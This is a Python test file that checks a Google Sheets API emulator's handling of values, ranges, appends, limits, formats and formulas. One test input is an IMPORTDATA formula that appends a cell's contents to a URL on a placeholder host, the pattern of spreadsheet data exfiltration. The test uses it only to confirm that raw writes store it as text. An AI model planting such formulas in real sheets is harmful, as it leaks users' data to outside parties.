"""Plain values, against the published guide (guides/values) and what is known of Google's habits."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.emulators.google import GoogleEmulator
from tests.emulators.google_api import SHEETS, Api, Refusal, grid, text


@pytest.fixture
def api() -> Iterator[Api]:
    with GoogleEmulator() as google:
        yield Api(google).made()


def test_raw_keeps_every_text_as_it_is(api: Api) -> None:
    typed = [
        '=IMPORTDATA("https://x/?"&B2)',
        "0012",
        "1-2",
        "TRUE",
        "'quoted",
        "1,234.50",
        "50%",
        "=",
        "+49 30 1",
    ]
    api.write("A1", [typed])
    assert api.values("A1:Z1") == [typed]
    assert api.cell("A1")["userEnteredValue"] == {"stringValue": typed[0]}


def test_user_entered_makes_formulas_dates_and_numbers_of_texts(api: Api) -> None:
    api.write("A1", [["=1+1", "0012", "1/2/2026", "TRUE", "'=1+1", "1,234.50", "50%"]], "USER_ENTERED")
    assert api.values("A1:G1") == [[2, 12, 46024, True, "=1+1", 1234.5, 0.5]]
    assert api.values("A1:A1", valueRenderOption="FORMULA") == [["=1+1"]]


@pytest.mark.parametrize(
    ("locale", "typed", "value"),
    [
        ("en_US", "1.234", 1.234),
        ("de_DE", "1.234", 1234),
        ("en_US", "1,5", "1,5"),
        ("de_DE", "1,5", 1.5),
        ("en_US", "2/1/2026", 46054),
        ("de_DE", "2.1.2026", 46024),
        ("en_US", "31/12/2026", "31/12/2026"),
    ],
)
def test_user_entered_depends_on_the_locale(api: Api, locale: str, typed: str, value: object) -> None:
    api.google.person.set_locale(locale)
    api.write("A1", [[typed]], "USER_ENTERED")
    assert api.values("A1:A1") == [[value]]


def test_a_write_must_say_how_values_are_meant(api: Api) -> None:
    with pytest.raises(Refusal, match="'valueInputOption' is required but not specified"):
        api.call("PUT", f"{SHEETS}/{api.book}/values/A1", json={"values": [[1]]})


def test_null_leaves_a_cell_and_an_empty_text_clears_it(api: Api) -> None:
    api.write("A1:C1", [["a", "b", "c"]])
    answer = api.write("A1:C1", [[None, "", "z"]])
    assert api.values("A1:C1") == [["a", "", "z"]]
    assert answer["updatedCells"] == 2


def test_empty_cells_at_the_end_are_left_out_and_those_between_are_empty_texts(api: Api) -> None:
    api.write("A1", [["a", "", "c"], [], ["", "b"]])
    assert api.values("A1:Z100") == [["a", "", "c"], [], ["", "b"]]
    assert api.values("A2:A2") == []
    answer = api.call("GET", f"{SHEETS}/{api.book}/values/A2:C2")
    assert answer == {"range": "Sheet1!A2:C2", "majorDimension": "ROWS"}


def test_columns_are_the_same_cells_turned(api: Api) -> None:
    api.write("A1", [["a", "b"], ["", "d"]])
    assert api.values("A1:B2", majorDimension="COLUMNS") == [["a"], ["b", "d"]]


@pytest.mark.parametrize(
    ("a1", "answered"),
    [
        ("Sheet1", "Sheet1!A1:Z1000"),
        ("sheet1!b2", "Sheet1!B2"),
        ("A:B", "Sheet1!A1:B1000"),
        ("2:3", "Sheet1!A2:Z3"),
        ("A5:A", "Sheet1!A5:A1000"),
        ("C3:A1", "Sheet1!A1:C3"),
        ("R2C3", "Sheet1!C2"),
        ("Sheet1!R1C1:R2C2", "Sheet1!A1:B2"),
        ("'Sheet1'!$A$1:$B$2", "Sheet1!A1:B2"),
        ("A999:C2000", "Sheet1!A999:C1000"),
    ],
)
def test_a1_notation_in_all_its_forms(api: Api, a1: str, answered: str) -> None:
    assert api.call("GET", f"{SHEETS}/{api.book}/values/{a1}")["range"] == answered


def test_a_title_is_quoted_where_it_would_be_read_as_something_else(api: Api) -> None:
    for title in ("It's 2026", "D3", "A b"):
        api.google.person.add_tab(title)
        quoted = "'" + title.replace("'", "''") + "'"
        assert api.call("GET", f"{SHEETS}/{api.book}/values/{quoted}!A1")["range"] == f"{quoted}!A1"


@pytest.mark.parametrize("a1", ["Nobody!A1", "A1:", ":B2", "A0", "1", "NoName"])
def test_what_is_no_range_is_refused(api: Api, a1: str) -> None:
    with pytest.raises(Refusal, match=f"Unable to parse range: {a1}"):
        api.values(a1)


def test_a_start_outside_the_grid_is_refused(api: Api) -> None:
    message = r"Range \(Sheet1!AB1:AC2\) exceeds grid limits. Max rows: 1000, max columns: 26"
    with pytest.raises(Refusal, match=message):
        api.values("AB1:AC2")


def test_a_write_larger_than_its_range_is_refused_and_one_cell_takes_any_size(api: Api) -> None:
    with pytest.raises(Refusal, match=r"range \['Sheet1'!A1:B1\], but tried writing to column \[C\]"):
        api.write("A1:B1", [[1, 2, 3]])
    with pytest.raises(Refusal, match=r"tried writing to row \[2\]"):
        api.write("A1:B1", [[1], [2]])
    assert api.write("A1", [[1, 2], [3, 4]])["updatedRange"] == "Sheet1!A1:B2"


def test_append_goes_below_the_last_table_and_so_drifts_right_after_a_gap(api: Api) -> None:
    api.append("Sheet1", [["x", "", "y"]])
    answer = api.append("Sheet1", [["x", "", "y"]])
    assert answer["tableRange"] == "Sheet1!C1"
    assert answer["updates"]["updatedRange"] == "Sheet1!C2:E2"


def test_append_with_inserted_rows_moves_what_stands_below(api: Api) -> None:
    api.write("A1", [["a"], ["b"], [""], ["below"]])
    api.append("A1:A2", [["c"]], insertDataOption="INSERT_ROWS")
    assert api.values("A1:A5") == [["a"], ["b"], ["c"], [], ["below"]]
    api.append("A1:A3", [["d"]])
    assert api.values("A1:A5") == [["a"], ["b"], ["c"], ["d"], ["below"]]


def test_clear_takes_the_values_and_leaves_formats_notes_and_rules(api: Api) -> None:
    look = {"textFormat": {"bold": True}}
    api.batch(
        {
            "repeatCell": {
                "range": grid("A1"),
                "cell": {**text("x"), "userEnteredFormat": look, "note": "n"},
                "fields": "*",
            }
        }
    )
    api.call("POST", f"{SHEETS}/{api.book}/values/A1:B2:clear")
    cell = api.cell("A1")
    assert (cell["userEnteredFormat"], cell["note"]) == (look, "n")
    assert "userEnteredValue" not in cell
    assert "effectiveValue" not in cell


def test_a_cell_holds_50000_characters_and_no_more(api: Api) -> None:
    api.write("A1", [["x" * 50_000]])
    with pytest.raises(Refusal, match="more than the maximum of 50000 characters"):
        api.write("A1", [["x" * 50_001]])
    with pytest.raises(Refusal, match="more than the maximum of 50000 characters"):
        api.batch(
            {
                "updateCells": {
                    "start": {},
                    "rows": [{"values": [text("x" * 50_001)]}],
                    "fields": "userEnteredValue",
                }
            }
        )


def test_a_spreadsheet_holds_ten_million_cells_and_no_more(api: Api) -> None:
    api.batch({"appendDimension": {"dimension": "ROWS", "length": 10_000_000 // 26 - 1000}})
    with pytest.raises(Refusal, match="above the limit of 10000000 cells"):
        api.batch({"appendDimension": {"dimension": "ROWS", "length": 1}})
    with pytest.raises(Refusal, match="above the limit of 10000000 cells"):
        api.batch({"addSheet": {"properties": {"title": "One more"}}})


def test_what_was_written_can_be_read_back_from_the_whole_requested_range(api: Api) -> None:
    api.write("A5:D5", [["key", 1, 2, 3]])
    answer = api.write("A5:D5", [[None, None, None, 9]], includeValuesInResponse="true")
    assert answer["updatedData"]["values"] == [["key", "1", "2", "9"]]


def test_several_ranges_are_written_all_or_none(api: Api) -> None:
    data = [{"range": "A1", "values": [[1]]}, {"range": "Nobody!A1", "values": [[2]]}]
    with pytest.raises(Refusal, match="Unable to parse range"):
        api.call(
            "POST", f"{SHEETS}/{api.book}/values:batchUpdate", json={"valueInputOption": "RAW", "data": data}
        )
    assert api.values("A1:A1") == []


def test_a_batch_read_is_of_one_state(api: Api) -> None:
    api.write("A1", [[1, "x"]])
    params = {"ranges": ["A1:A1", "B1:B1"], "valueRenderOption": "UNFORMATTED_VALUE"}
    answer = api.call("GET", f"{SHEETS}/{api.book}/values:batchGet", params=params)
    assert [one["values"] for one in answer["valueRanges"]] == [[[1]], [["x"]]]


@pytest.mark.parametrize(
    ("number_format", "value", "seen"),
    [
        ({"type": "NUMBER", "pattern": "#,##0.00"}, -1234.5, "-1,234.50"),
        ({"type": "NUMBER", "pattern": '#,##0.00;"("#,##0.00")"'}, -1234.5, "(1,234.50)"),
        ({"type": "CURRENCY", "pattern": '"$"#,##0.00'}, 5, "$5.00"),
        ({"type": "PERCENT", "pattern": "0.0%"}, 0.125, "12.5%"),
        ({"type": "DATE", "pattern": "yyyy-mm-dd"}, 46024, "2026-01-02"),
        ({"type": "DATE_TIME", "pattern": "dd.mm.yyyy hh:mm"}, 46024.5, "02.01.2026 12:00"),
        ({"type": "TEXT"}, 7, "7"),
    ],
)
def test_a_format_decides_what_is_seen_and_not_what_is_there(
    api: Api, number_format: dict[str, str], value: float, seen: str
) -> None:
    cell = {"userEnteredValue": {"numberValue": value}, "userEnteredFormat": {"numberFormat": number_format}}
    api.batch({"updateCells": {"start": {}, "rows": [{"values": [cell]}], "fields": "*"}})
    assert api.values("A1:A1", valueRenderOption="FORMATTED_VALUE") == [[seen]]
    assert api.values("A1:A1") == [[value]]


def test_dates_are_serial_numbers_unless_asked_for_as_texts(api: Api) -> None:
    api.write("A1", [["2026-01-02"]], "USER_ENTERED")
    assert api.values("A1:A1") == [[46024]]
    assert api.values("A1:A1", dateTimeRenderOption="FORMATTED_STRING") == [["2026-01-02"]]


@pytest.mark.parametrize(
    ("formula", "value"),
    [
        ("=A1", 2),
        ("=A1*3+1", 7),
        ("=SUM(A1:A3)", 10),
        ("=SUM(A1,10)/4", 3),
        ('="no "&A1', "no 2"),
        ("=-(A1-5)", 3),
        ("=Sheet1!A2", 8),
        ("=A1/0", "#DIV/0! (Function DIVIDE parameter 2 cannot be zero.)"),
        ("=XLOOKUP(1,A:A,B:B)", "#NAME? (Unknown function or range name.)"),
        ("=B1", "#REF! (Reference does not exist.)"),
        ('="x"*2', "#VALUE! (The value cannot be used here.)"),
    ],
)
def test_small_formulas_are_worked_out(api: Api, formula: str, value: object) -> None:
    api.write("A1", [[2, formula], [8]], "USER_ENTERED")
    assert api.values("B1:B1") == [[value]]
    assert api.values("B1:B1", valueRenderOption="FORMULA") == [[formula]]


def test_a_formula_that_is_not_worked_out_shows_what_the_test_says(api: Api) -> None:
    api.google.shows["=TODAY()"] = 46000
    api.write("A1", [["=TODAY()", "=A1+1"]], "USER_ENTERED")
    assert api.values("A1:B1") == [[46000, 46001]]


def test_an_error_cell_has_an_error_value(api: Api) -> None:
    api.write("A1", [["=1/0"]], "USER_ENTERED")
    cell = api.cell("A1")
    assert cell["userEnteredValue"] == {"formulaValue": "=1/0"}
    assert cell["effectiveValue"]["errorValue"]["type"] == "DIVIDE_BY_ZERO"
    assert cell["formattedValue"] == "#DIV/0!"
    assert api.values("A1:A1", valueRenderOption="FORMATTED_VALUE") == [["#DIV/0!"]]


def test_what_is_no_list_of_lists_is_refused_in_googles_words(api: Api) -> None:
    with pytest.raises(Refusal, match=r"google.protobuf.ListValue\), \"x\"") as refused:
        api.write("A1", ["x"])  # type: ignore[list-item]  # that is the point
    assert refused.value.error["details"][0]["fieldViolations"][0]["field"] == "data.values"
